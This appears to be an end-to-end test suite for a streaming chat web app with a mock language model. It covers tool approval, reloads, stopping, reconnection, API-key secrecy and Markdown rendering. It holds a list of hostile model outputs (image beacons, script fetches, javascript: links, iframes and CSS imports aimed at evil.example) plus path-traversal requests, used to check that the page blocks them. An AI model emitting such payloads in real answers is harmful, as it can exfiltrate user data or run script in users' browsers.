import { join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import type { Browser, BrowserContextOptions, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startChat, installChat, type ChatProgram } from '../support/chatApp.ts';
import { startChatModel, type ChatModel, type ChatScript } from '../support/chatModel.ts';
import { chatPage, type ChatPage } from '../support/chatPage.ts';
import type { Engine } from '../support/engines/Engine.ts';
import { ENGINES } from '../support/engines/engines.ts';
import { engineOf, openChromium } from '../support/engines/openChromium.ts';
import { launchChromium } from '../support/launchChromium.ts';
import { run, temporaryFolder } from '../support/packedPackage.ts';
import { hasRedis } from '../support/redis.ts';
import { mainThreadIn } from '../support/trace.ts';

const KEY = 'sk-a-key-that-no-page-sees';
const HOSTILE = [
  '<img src="https://evil.example/pixel?secret">\n\n![secret](https://evil.example/image?secret)\n\n',
  '<script>fetch("https://evil.example/script")</script>\n\n',
  '[a click](javascript:fetch("https://evil.example/click")) [data](data:text/html,<script>1</script>)\n\n',
  '<iframe src="https://evil.example/frame"></iframe><style>@import "https://evil.example/css";</style>\n\n',
  '<a href="https://evil.example/prefetch" ping="https://evil.example/ping">x</a> <svg onload="alert(1)">\n\n',
  '[![badge](https://evil.example/badge)](https://evil.example/) <https://evil.example/auto>\n\n',
  '[ref]: https://evil.example/ref "title"\n\nThe end.',
];
const WIDTHS = '[document.documentElement.scrollWidth, document.documentElement.clientWidth]';
const LONG = Array.from({ length: 400 }, (_, index) => `${index} sheep, `);

const isThorough = process.env['EXAMPLES'] === 'all';

const folder = temporaryFolder();
let chat: string;
let model: ChatModel;
let server: ChatProgram;
let page: ChatPage;

beforeAll(async () => {
  chat = await installChat(folder.path);
}, 900_000);
afterAll(() => folder.remove());

/** Starts the server with the model of a test. */
function startServer(port?: number): Promise<ChatProgram> {
  return startChat(chat, 'main', { OPENAI_BASE_URL: model.baseURL, OPENAI_API_KEY: KEY }, port);
}

describe.each([{ browser: 'chromium', open: openChromium }, ...ENGINES])(
  'the chat in $browser',
  ({ browser, open }) => {
    let engine: Engine;
    let mock: ChatProgram;

    beforeAll(async () => {
      engine = await open();
      page = chatPage(engine);
      model = await startChatModel(scriptFor);
      [mock, server] = await Promise.all([startChat(chat, 'main'), startServer()]);
    }, 150_000);
    afterAll(async () => {
      await engine.close();
      await Promise.all([mock[Symbol.asyncDispose](), server.kill()]);
      await model[Symbol.asyncDispose]();
    });

    // The tab retains its conversation.
    afterEach(() => page.click('New chat'));

    it('shows reasoning and growing arguments, asks before a tool runs, and says what it took', async () => {
      await page.open(mock.address);
      await page.click('Book a ferry');
      await page.announces('The model asks for your approval');
      expect(await page.shows('waits for you')).toMatch(
        /Thoughts[^]*Look up departures[^]*done[^]*seats\s+2/,
      );
      expect((await page.seen('answer')).length).toBeGreaterThan(20);
      expect(await page.seen('tool')).toContainEqual(
        expect.stringMatching(/writing…from(?!.*(15:40|seats2))/),
      );
      expect(await page.faults()).toStrictEqual([]);

      await page.click('Thoughts');
      await page.shows('First I need the timetable');
      await page.click('Yes');
      await page.announces('The answer is complete');
      expect(await page.shows('two seats at 15:55')).toMatch(/first token [\d.]+ s · \d+ tokens\/s · \$/);
      expect(await page.complaints()).toStrictEqual([]);
    });

    it('joins an answer after a reload', async () => {
      await page.open(mock.address);
      await page.ask('Write a long essay.');
      await page.shows('patient thing');
      await page.reload();
      await page.announces('The model is answering');
      expect(await page.shows('patient thing')).toContain('On ferries');
      await page.click('Stop');
      await page.announces('The answer was stopped');
    });

    it('stops the model when Escape is pressed', { retry: isThorough ? 2 : 0 }, async () => {
      await page.open(server.address);
      await page.ask('Count sheep');
      await page.shows('5 sheep');
      expect(await page.faults()).toStrictEqual([]);
      const earlier = model.stops.length;
      await engine.press('Escape');
      await expect.poll(() => model.stops.length, { timeout: 20_000 }).toBe(earlier + 1);
      const delay = (model.stops.at(-1) ?? Infinity) - (await page.pressedAt());
      console.log(`Stop reached the model after ${delay} ms in ${browser}`);
      expect(delay).toBeLessThan(isThorough ? 200 : 2_000);
      await page.announces('The answer was stopped');
      expect(await page.shows('You stopped this answer')).toContain('5 sheep');
    });

    it('retains the partial answer when its server is killed, and offers to try again', async () => {
      await page.open(server.address);
      await page.ask('Count sheep');
      await page.shows('9 sheep');
      await engine.run(HURRY);
      await server.kill();
      await page.announces('The answer failed');
      expect(await page.seen('announced')).toContain('The connection was lost. Reconnecting');
      expect(await page.shows('The connection was lost.')).toContain('9 sheep');

      server = await startServer(Number(new URL(server.address).port));
      await page.click('Try again');
      await page.shows('0 sheep');
    });
  },
);

/** The page waits a tenth from now on: between two attempts these are seconds. */
const HURRY = `
  for (const name of ['setTimeout', 'setInterval']) {
    const start = globalThis[name];
    globalThis[name] = (callback, delay = 0, ...rest) => start(callback, delay / 10, ...rest);
  }
`;

describe('the chat in Chromium', () => {
  let browser: Browser;
  let tab: Page;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterEach(async () => {
    for (const context of browser.contexts()) await context.close();
  });
  afterAll(() => browser.close());

  async function openTab(address: string, options: BrowserContextOptions = {}): Promise<void> {
    const context = await browser.newContext({ viewport: { width: 1_000, height: 800 }, ...options });
    tab = await context.newPage();
    page = chatPage(engineOf(tab));
    await page.open(address);
  }

  describe('with its own model', () => {
    beforeAll(async () => {
      server = await startChat(chat, 'main');
    }, 150_000);
    afterAll(() => server[Symbol.asyncDispose]());

    it('books nothing if the user says no', async () => {
      await openTab(server.address, { colorScheme: 'dark', viewport: { width: 360, height: 740 } });
      await page.ask('Book the next ferry.');
      await page.click('No');
      expect(await page.shows('nothing is booked')).not.toContain('reference');
      const [needed, given] = await tab.evaluate<[number, number]>(WIDTHS);
      expect(needed).toBeLessThanOrEqual(given);
      expect(await page.faults()).toStrictEqual([]);
    });

    it('says that another model answers, and retains what came of an answer that breaks off', async () => {
      await openTab(server.address);
      await page.ask('Are you busy?');
      expect(await page.shows('in its place')).toContain('mock-small');
      await page.announces('The answer is complete');

      await page.ask('Break off, please.');
      await page.announces('The answer failed');
      expect(await page.shows('The answer broke off')).toContain('This answer begins well');
      expect(await page.faults()).toStrictEqual([]);
      await page.reload();
      expect(await page.shows('The answer broke off')).toContain('This answer begins well');
      await page.click('Try again');
      await page.announces('The model is thinking');
    });

    it('refuses what a page doesn’t send', async () => {
      const post = (type: string, body: string, path = 'chat') =>
        fetch(`${server.address}/api/${path}`, { method: 'POST', headers: { 'content-type': type }, body });
      const refused = await Promise.all([
        post('text/plain', '{"id":"a","messages":[{"role":"user","content":"a"}]}'),
        post('application/json', '{"id":"a","messages":[{"role":"system","content":"a"}]}'),
        post('application/json', '{}', 'stop'),
        fetch(`${server.address}/../server/main.ts`),
        fetch(`${server.address}/..%2fserver%2fmain.ts`),
      ]);
      expect(refused.map(({ status }) => status)).toStrictEqual([400, 400, 400, 404, 404]);
    });
  });

  describe('with a model of its environment', () => {
    beforeAll(async () => {
      model = await startChatModel(scriptFor);
      server = await startServer();
    }, 150_000);
    afterAll(async () => {
      await server.kill();
      await model[Symbol.asyncDispose]();
    });

    it('sends the conversation, and no page sees the key', async () => {
      await openTab(server.address);
      const bodies: Promise<string>[] = [];
      tab.on('response', (response) => bodies.push(response.text().catch(() => '')));
      await page.ask('First');
      await page.announces('The answer is complete');
      await page.ask('Second');
      await page.shows('You said Second');
      await page.announces('The answer is complete');

      const [, second] = model.requests as readonly { readonly messages: readonly object[] }[];
      expect(second?.messages.slice(1)).toMatchObject([
        { role: 'user', content: 'First' },
        { role: 'assistant', content: 'You said First' },
        { role: 'user', content: 'Second' },
      ]);
      expect((await Promise.all(bodies)).join()).not.toContain(KEY);
    });

    it('makes no request for a hostile model', async () => {
      const foreign: string[] = [];
      await openTab(server.address);
      tab.on('request', (request) => {
        if (!request.url().startsWith(server.address)) foreign.push(request.url());
      });
      await page.ask('Be hostile');
      const text = await page.shows('The end.');
      await page.announces('The answer is complete');
      expect(text).toContain('<script>fetch(');
      const links = await tab
        .locator('.answer a')
        .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
      expect(links.filter((href) => !href?.startsWith('https://'))).toStrictEqual([]);
      expect(await tab.locator('.answer :is(img, script, iframe, style, [onload])').count()).toBe(0);
      expect([foreign, await page.complaints()]).toStrictEqual([[], []]);
    });

    // A busy machine makes one frame of many, and even CPU time dearer.
    it.runIf(isThorough)('draws 5,000 tokens at 500 a second without a long task', { retry: 2 }, async () => {
      await openTab(server.address);
      await browser.startTracing(tab, { categories: ['toplevel', 'devtools.timeline', '__metadata'] });
      await tab.evaluate(COUNT_UPDATES);
      await page.ask('Write 5000 tokens');
      await page.announces('The answer is complete');
      const { updates, frames } = await tab.evaluate<{ updates: number; frames: number }>('counts');
      const { longest, total, long } = mainThreadIn(await browser.stopTracing());
      console.log(
        `5,000 tokens: longest task ${longest.toFixed(1)} ms CPU, ${long} over 50 ms, ${(total / 1_000).toFixed(2)} s in all; ${updates} updates in ${frames} frames`,
      );
      expect(longest).toBeLessThan(50);
      expect(updates).toBeLessThanOrEqual(frames);
    });
  });

  it('npm start serves the page and its model', async () => {
    await using program = await startChat(chat, 'start');
    await openTab(program.address);
    await page.ask('What can you do?');
    expect(await page.shows('tokens/s')).toContain('I’m a mock');
    expect(await page.complaints()).toStrictEqual([]);
  }, 150_000);

  it.runIf(hasRedis())(
    'npm run start:two survives the death of the server that writes',
    async () => {
      await using program = await startChat(chat, 'startTwo');
      await openTab(program.address);
      await page.ask('Write a long essay.');
      await page.shows('patient thing');
      const [, first] = /is process (\d+)/.exec(program.output()) ?? [];
      process.kill(Number(first), 'SIGKILL');
      await page.shows('it was begun again');
      await setTimeout(500);
      await page.reload();
      await page.shows('patient thing');
      await page.announces('The answer is complete');
      expect((await page.shows('8')).match(/patient thing/g)).toHaveLength(8);
    },
    150_000,
  );
});

/** Counts the frames, and those in which the answer has changed. */
const COUNT_UPDATES = `
  globalThis.counts = { updates: 0, frames: 0 };
  new MutationObserver(() => counts.updates++).observe(document.querySelector('main'), { subtree: true, childList: true, characterData: true });
  requestAnimationFrame(function count() { counts.frames++; requestAnimationFrame(count); });
`;

/** Prints the first beginning of a text that is other blocks if it has grown. */
const GROW = `
  import { Lexer } from 'marked';
  import { createBlocks } from './src/app/markdown/blocks.ts';
  import * as texts from './server/mock/texts.ts';
  const tricky = 'a\\n\\n- b\\n\\n  c\\n\\n- d\\n\\ne\\n===\\n\\n    code\\n\\n    code\\n\\n<div>\\n\\nx\\n</div>\\n\\n~~~\\na\\n\\nb\\n~~~\\n| a |\\n|---|\\n| b |\\n\\n> q\\nr\\n\\n1. o\\n\\n\\n2. p\\n\\nThe [end].\\n\\n[end]: https://example.com\\n';
  const rawOf = (tokens) => JSON.stringify(tokens.map(({ raw }) => raw));
  for (const text of [...Object.values(texts), tricky]) {
    for (const step of [1, 5, 13]) {
      const split = createBlocks();
      for (let end = 0; end < text.length + step; end += step) {
        const part = text.slice(0, end);
        const isComplete = end >= text.length;
        const grown = split(part, isComplete).map(({ token }) => token);
        if (rawOf(grown) !== rawOf(Lexer.lex(part))) console.log(part);
        if (isComplete && JSON.stringify(grown) !== JSON.stringify([...Lexer.lex(part)])) console.log(part);
      }
    }
  }
`;

describe('the chat’s Markdown', () => {
  it('grows to the same blocks however it is cut', async () => {
    const node = join(chat, 'node_modules/.bin/node');
    expect(await run(node, ['--input-type=module', '--eval', GROW], chat)).toBe('');
  });
});

function scriptFor(question: string): ChatScript {
  if (question.includes('hostile'))
    return { pieces: HOSTILE.flatMap((text) => text.match(/.{1,5}/gs) ?? []), pace: 3 };
  if (question.includes('sheep')) return { pieces: LONG, pace: 60 };
  if (question.includes('5000')) return { pieces: tokens(5_000), pace: 2 };
  return { pieces: [`You said ${question}`], pace: 0 };
}

/** Markdown with all kinds of blocks. */
function tokens(count: number): readonly string[] {
  const section =
    '## A section\n\nSome words in **bold**, a `code` and a [link](https://example.com), and more of them to fill the line.\n\n- one\n- two\n  - three\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```ts\nconst answer = await ask("Why?");\nreturn answer.length;\n```\n\n> A quote\n\n';
  const pieces = section.match(/\S{1,5}\s*|\s+/g) ?? [];
  return Array.from({ length: count }, (_, index) => pieces[index % pieces.length] ?? '');
}
